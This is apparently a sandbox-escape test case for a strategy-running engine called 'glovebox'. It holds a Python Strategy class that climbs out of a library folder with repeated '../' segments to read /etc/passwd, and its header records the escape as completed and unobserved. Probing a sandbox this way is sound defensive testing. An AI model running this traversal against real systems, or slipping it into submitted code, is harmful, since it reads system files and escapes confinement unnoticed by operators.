# id: F04
# family: files
# goal: climb out of the library's folder, which the engine may read, by dots
# finding: PY105 PY201 PY302
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    import json

    return open(json.__file__ + "/../../../../../../../../../../../../etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
